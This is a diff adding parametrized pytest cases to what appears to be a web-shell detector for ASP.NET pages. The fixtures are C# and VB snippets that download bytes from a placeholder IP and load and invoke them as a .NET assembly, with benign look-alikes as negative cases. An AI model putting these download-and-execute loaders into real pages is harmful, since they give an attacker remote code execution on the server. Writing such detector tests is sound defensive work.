@@ -158,3 +158,123 @@ def test_vb_xml_document_held_in_a_dotted_type_read_for_fixed_values() -> None:
     assert "file-read" not in _sinks(page, ".ashx")
     shown = page.replace('ctx.Response.Write(item.Element("title").Value)', "ctx.Response.Write(doc.ToString())")
     assert "file-read" in _sinks(shown, ".ashx")
+
+
+# --- An assembly downloaded and loaded: AppDomain's Load, VB's declarations (X51's request, session 22) -------------
+# remote-assembly took Assembly.Load of a download held in a C# name. An OSEP-style loader using
+# AppDomain.CurrentDomain.Load, and VB pages holding the bytes in ``Dim d() As Byte =`` or ``Dim d As Byte() =``, were
+# found by nothing. An update check that loads the downloaded library only to read its version runs none of it.
+
+_FETCH_CS = """<%@ Page Language="C#" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e) {
+    string where = "http://192.0.2.51:8000/part.bin";
+    USE
+}
+</script>
+"""
+_FETCH_VB = """<%@ Page Language="VB" %>
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    Dim src As String = "http://192.0.2.51/x.dat"
+    Dim wc As New System.Net.WebClient()
+    USE
+End Sub
+</script>
+"""
+
+
+@pytest.mark.parametrize(
+    ("page", "use", "found"),
+    [
+        (
+            _FETCH_CS,
+            "byte[] got = new System.Net.WebClient().DownloadData(where);\n"
+            "    System.Reflection.Assembly asm = AppDomain.CurrentDomain.Load(got);\n"
+            "    asm.EntryPoint.Invoke(null, new object[] { new string[0] });",
+            True,
+        ),
+        (_FETCH_CS, 'AppDomain.CurrentDomain.Load(new System.Net.WebClient().DownloadData(where)).CreateInstance("M.E");', True),
+        (_FETCH_CS, 'System.Reflection.Assembly.Load(new System.Net.WebClient().DownloadData(where)).CreateInstance("M.E");', True),
+        (
+            _FETCH_VB,
+            'Dim d() As Byte = wc.DownloadData(src)\n    Dim a = System.Reflection.Assembly.Load(d)\n'
+            '    a.GetType("X.Y").GetMethod("Go").Invoke(Nothing, Nothing)',
+            True,
+        ),
+        (
+            _FETCH_VB,
+            'Dim d As Byte() = wc.DownloadData(src)\n    Dim a As System.Reflection.Assembly = AppDomain.CurrentDomain.Load(d)\n'
+            '    a.EntryPoint.Invoke(Nothing, Nothing)',
+            True,
+        ),
+        (
+            _FETCH_VB,
+            'Dim a = System.Reflection.Assembly.Load(New System.Net.WebClient().DownloadData(src))\n'
+            '    a.CreateInstance("X.Y")',
+            True,
+        ),
+        # the answer's stream copied into memory and loaded from it (X51's addendum)
+        (
+            _FETCH_CS,
+            "var req = System.Net.WebRequest.Create(where);\n"
+            "    using (var rs = req.GetResponse().GetResponseStream())\n"
+            "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
+            "        System.Reflection.Assembly.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }",
+            True,
+        ),
+        (
+            _FETCH_CS,
+            "using (var s = new System.Net.WebClient().OpenRead(where))\n"
+            "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
+            "        AppDomain.CurrentDomain.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }",
+            True,
+        ),
+        (
+            _FETCH_CS,
+            "var st = new System.Net.Http.HttpClient().GetStreamAsync(where).Result;\n"
+            "    var ms = new System.IO.MemoryStream(); st.CopyTo(ms);\n"
+            '    var a = System.Reflection.Assembly.Load(ms.ToArray());\n    a.GetType("L.M").GetMethod("Run").Invoke(null, null);',
+            True,
+        ),
+        # ordinary: the downloaded library's version read and the file kept; a plug-in of the site's own bin (read
+        # whole, or opened and copied into memory); an answer's stream copied into memory and shown
+        (
+            _FETCH_CS,
+            'using (var s = System.IO.File.OpenRead(Server.MapPath("~/bin/Plugins/Charts.dll")))\n'
+            "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
+            '        Response.Write(System.Reflection.Assembly.Load(ms.ToArray()).CreateInstance("Charts.R"));\n    }\n'
+            "    var feed = new System.Net.WebClient().DownloadData(where);",
+            False,
+        ),
+        (
+            _FETCH_CS,
+            "using (var rs = System.Net.WebRequest.Create(where).GetResponse().GetResponseStream())\n"
+            "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
+            '        Response.BinaryWrite(ms.ToArray());\n    }\n    var w = System.Reflection.Assembly.Load("Widgets");',
+            False,
+        ),
+        (
+            _FETCH_CS,
+            'var wc = new System.Net.WebClient();\n    byte[] lib = wc.DownloadData("https://updates.example.com/R.dll");\n'
+            "    var v = System.Reflection.Assembly.Load(lib).GetName().Version;\n"
+            '    System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/R-" + v + ".dll"), lib);',
+            False,
+        ),
+        (
+            _FETCH_VB,
+            'Dim lib() As Byte = wc.DownloadData("https://updates.example.com/R.dll")\n'
+            "    Dim v = System.Reflection.Assembly.Load(lib).GetName().Version\n    Response.Write(v)",
+            False,
+        ),
+        (
+            _FETCH_VB,
+            'Dim raw() As Byte = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Plugins/Charts.dll"))\n'
+            '    Dim a = System.Reflection.Assembly.Load(raw)\n    Response.Write(a.CreateInstance("Charts.R"))\n'
+            '    Dim logo() As Byte = wc.DownloadData("https://cdn.example.com/logo.png")',
+            False,
+        ),
+    ],
+)
+def test_a_downloaded_assembly_loaded(page: str, use: str, found: bool) -> None:
+    assert ("remote-assembly" in _sinks(page.replace("USE", use))) is found
